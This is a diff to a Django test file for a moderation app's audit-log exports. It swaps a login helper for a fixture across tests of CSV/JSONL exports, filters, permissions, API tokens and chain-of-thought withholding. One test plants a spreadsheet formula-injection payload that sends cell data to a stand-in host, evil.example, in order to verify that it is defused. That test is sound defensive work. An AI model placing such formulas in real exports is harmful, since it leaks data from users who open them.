@@ -16,14 +16,8 @@ from audit.models import ApiToken, AuditEvent
 from moderation.models import ContentItem, TriageResult
 from policies import services as policy_services
 from policies.models import Policy
-from tests.conftest import POLICY_TEXT, ApiClient
+from tests.conftest import POLICY_TEXT, ApiClient, ClientFor
 from tests.reviews.exports_helpers import CHAIN_OF_THOUGHT, csv_rows, decided_case, jsonl_rows
-
-
-def logged_in(user: User) -> Client:
-    client = Client()
-    client.force_login(user)
-    return client
 
 
 def api_get(path: str, token: str | None, **params: Any) -> Any:
@@ -42,9 +36,11 @@ def other_policy(db: None) -> Policy:
     return policy
 
 
-def test_an_auditor_exports_the_audit_log_as_csv_from_the_audit_page(auditor: User, policy: Policy) -> None:
+def test_an_auditor_exports_the_audit_log_as_csv_from_the_audit_page(
+    auditor: User, policy: Policy, client_for: ClientFor
+) -> None:
     audit.record("test.event", actor=auditor, obj=policy, payload={"text": 'a "quoted",\nmulti-line value'})
-    client = logged_in(auditor)
+    client = client_for(auditor)
     assert client.get("/audit/").status_code == 200
     rows = csv_rows(client.get("/audit/export", {"kind": "events", "format": "csv"}))
     stored = list(AuditEvent.objects.order_by("seq"))
@@ -55,17 +51,21 @@ def test_an_auditor_exports_the_audit_log_as_csv_from_the_audit_page(auditor: Us
     assert event["actor_label"] == auditor.username
 
 
-def test_the_jsonl_export_parses_back_to_the_stored_events(auditor: User, policy: Policy) -> None:
+def test_the_jsonl_export_parses_back_to_the_stored_events(
+    auditor: User, policy: Policy, client_for: ClientFor
+) -> None:
     audit.record("test.event", actor=None, obj=policy, payload={"path": "C:\\temp", "n": [1, 2]})
-    rows = jsonl_rows(logged_in(auditor).get("/audit/export", {"kind": "events", "format": "jsonl"}))
+    rows = jsonl_rows(client_for(auditor).get("/audit/export", {"kind": "events", "format": "jsonl"}))
     event = next(r for r in rows if r["action"] == "test.event")
     stored = AuditEvent.objects.get(action="test.event")
     assert event["payload"] == {"path": "C:\\temp", "n": [1, 2]}
     assert (event["seq"], event["hash"], event["prev_hash"]) == (stored.seq, stored.hash, stored.prev_hash)
 
 
-def test_each_export_is_an_audit_event_recorded_before_streaming(auditor: User, policy: Policy) -> None:
-    response = logged_in(auditor).get(
+def test_each_export_is_an_audit_event_recorded_before_streaming(
+    auditor: User, policy: Policy, client_for: ClientFor
+) -> None:
+    response = client_for(auditor).get(
         "/audit/export", {"kind": "events", "format": "csv", "policy": "spam", "action": "case.decided"}
     )
     # Recorded before the first byte: it is there even if nobody reads the stream.
@@ -83,14 +83,14 @@ def test_each_export_is_an_audit_event_recorded_before_streaming(auditor: User, 
 
 
 def test_the_events_export_matches_each_filter(
-    auditor: User, admin: User, policy: Policy, other_policy: Policy, source: ApiClient
+    auditor: User, admin: User, policy: Policy, other_policy: Policy, source: ApiClient, client_for: ClientFor
 ) -> None:
     case, _ = decided_case(policy, source, admin)
     other_case, _ = decided_case(other_policy, source, admin)
     first = audit.record("case.decided", actor=admin, obj=case, payload={})
     second = audit.record("case.decided", actor=auditor, obj=other_case, payload={})
     third = audit.record("case.claimed", actor=admin, obj=case, payload={})
-    client = logged_in(auditor)
+    client = client_for(auditor)
 
     def seqs(**params: str) -> set[int]:
         rows = csv_rows(client.get("/audit/export", {"kind": "events", "format": "csv", **params}))
@@ -121,10 +121,10 @@ def test_the_events_export_matches_each_filter(
 
 
 def test_the_decisions_export_has_item_policy_model_and_human_decision(
-    auditor: User, moderator: User, policy: Policy, source: ApiClient
+    auditor: User, moderator: User, policy: Policy, source: ApiClient, client_for: ClientFor
 ) -> None:
     case, decision = decided_case(policy, source, moderator)
-    rows = csv_rows(logged_in(auditor).get("/audit/export", {"kind": "decisions", "format": "csv"}))
+    rows = csv_rows(client_for(auditor).get("/audit/export", {"kind": "decisions", "format": "csv"}))
     assert len(rows) == 1
     row = rows[0]
     assert row["decision_id"] == str(decision.pk)
@@ -145,7 +145,7 @@ def test_the_decisions_export_has_item_policy_model_and_human_decision(
 
 
 def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_defused_and_jsonl_stays_verbatim(
-    auditor: User, moderator: User, policy: Policy, source: ApiClient
+    auditor: User, moderator: User, policy: Policy, source: ApiClient, client_for: ClientFor
 ) -> None:
     formulas = {
         "external_id": '=HYPERLINK("http://evil.example/?"&A1,"open")',
@@ -157,7 +157,7 @@ def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_defused_and_jsonl_sta
     ContentItem.objects.filter(pk=case.item_id).update(external_id=formulas["external_id"])
     TriageResult.objects.filter(case=case).update(rationale=formulas["model_rationale"])
     User.objects.filter(pk=moderator.pk).update(username=formulas["moderator"])
-    client = logged_in(auditor)
+    client = client_for(auditor)
 
     row = csv_rows(client.get("/audit/export", {"kind": "decisions", "format": "csv"}))[0]
     for column, value in formulas.items():
@@ -202,10 +202,10 @@ def test_the_decisions_export_matches_each_filter(
 
 
 def test_the_chain_of_thought_is_absent_unless_asked_for(
-    admin: User, moderator: User, policy: Policy, source: ApiClient
+    admin: User, moderator: User, policy: Policy, source: ApiClient, client_for: ClientFor
 ) -> None:
     decided_case(policy, source, moderator)
-    client = logged_in(admin)
+    client = client_for(admin)
     plain = csv_rows(client.get("/audit/export", {"kind": "decisions", "format": "csv"}))
     assert "model_chain_of_thought" not in plain[0]
     assert CHAIN_OF_THOUGHT not in str(plain)
@@ -221,14 +221,14 @@ def test_the_chain_of_thought_is_absent_unless_asked_for(
 
 
 def test_the_chain_of_thought_is_refused_to_an_auditor_without_the_permission(
-    auditor: User, moderator: User, policy: Policy, source: ApiClient
+    auditor: User, moderator: User, policy: Policy, source: ApiClient, client_for: ClientFor
 ) -> None:
     decided_case(policy, source, moderator)
     token = token_of(auditor)
     refused = api_get("decisions", token, format="csv", include_reasoning="true")
     assert refused.status_code == 403
     assert "export_reasoning" in refused.json()["detail"]
-    ui = logged_in(auditor).get(
+    ui = client_for(auditor).get(
         "/audit/export", {"kind": "decisions", "format": "csv", "include_reasoning": "on"}
     )
     assert ui.status_code == 403
@@ -240,8 +240,8 @@ def test_the_chain_of_thought_is_refused_to_an_auditor_without_the_permission(
     assert allowed[0]["model_chain_of_thought"] == CHAIN_OF_THOUGHT
 
 
-def test_a_moderator_cannot_export_or_open_the_audit_page(moderator: User) -> None:
-    client = logged_in(moderator)
+def test_a_moderator_cannot_export_or_open_the_audit_page(moderator: User, client_for: ClientFor) -> None:
+    client = client_for(moderator)
     assert client.get("/audit/").status_code == 403
     assert client.get("/audit/export", {"kind": "events", "format": "csv"}).status_code == 403
     assert client.post("/audit/tokens", {"name": "mine"}).status_code == 403
@@ -274,8 +274,10 @@ def test_the_api_refuses_a_moderators_token_and_a_source_key(moderator: User, so
     assert not AuditEvent.objects.filter(action="export.started").exists()
 
 
-def test_an_auditor_makes_a_token_that_is_shown_once_and_stored_hashed(auditor: User) -> None:
-    client = logged_in(auditor)
+def test_an_auditor_makes_a_token_that_is_shown_once_and_stored_hashed(
+    auditor: User, client_for: ClientFor
+) -> None:
+    client = client_for(auditor)
     response = client.post("/audit/tokens", {"name": "DSA report"})
     assert response.status_code == 200
     secret = response.context["new_token"]
@@ -289,9 +291,9 @@ def test_an_auditor_makes_a_token_that_is_shown_once_and_stored_hashed(auditor: 
     assert AuditEvent.objects.filter(action__in=["api_token.created", "api_token.revoked"]).count() == 2
 
 
-def test_someone_elses_token_cannot_be_revoked(auditor: User, admin: User) -> None:
+def test_someone_elses_token_cannot_be_revoked(auditor: User, admin: User, client_for: ClientFor) -> None:
     token, secret = tokens.api_token_create(user=admin, name="admin's")
-    logged_in(auditor).post(f"/audit/tokens/{token.pk}/revoke")
+    client_for(auditor).post(f"/audit/tokens/{token.pk}/revoke")
     assert api_get("events", secret).status_code == 200
 
 
@@ -308,12 +310,12 @@ def test_someone_elses_token_cannot_be_revoked(auditor: User, admin: User) -> No
     ],
 )
 def test_bad_filters_get_a_400_with_field_errors(
-    auditor: User, policy: Policy, params: dict[str, str], field: str
+    auditor: User, policy: Policy, params: dict[str, str], field: str, client_for: ClientFor
 ) -> None:
     api = api_get("events", token_of(auditor), **params)
     assert api.status_code == 400
     assert field in {e["loc"][-1] for e in api.json()["errors"]}
-    ui = logged_in(auditor).get("/audit/export", {"kind": "events", "format": "csv", **params})
+    ui = client_for(auditor).get("/audit/export", {"kind": "events", "format": "csv", **params})
     assert ui.status_code == 400
     assert field in ui.context["form"].errors
     assert not AuditEvent.objects.filter(action="export.started").exists()
@@ -330,8 +332,8 @@ def test_an_offset_postgresql_cannot_store_is_read_in_utc(auditor: User) -> None
     assert api_get("events", token_of(auditor), until="0093-01-29T02:13:18-19:37").status_code == 200
 
 
-def test_statements_are_refused_as_csv(auditor: User) -> None:
-    ui = logged_in(auditor).get("/audit/export", {"kind": "statements", "format": "csv"})
+def test_statements_are_refused_as_csv(auditor: User, client_for: ClientFor) -> None:
+    ui = client_for(auditor).get("/audit/export", {"kind": "statements", "format": "csv"})
     assert ui.status_code == 400
     assert "format" in ui.context["form"].errors
     api = api_get("statements", token_of(auditor), format="csv")
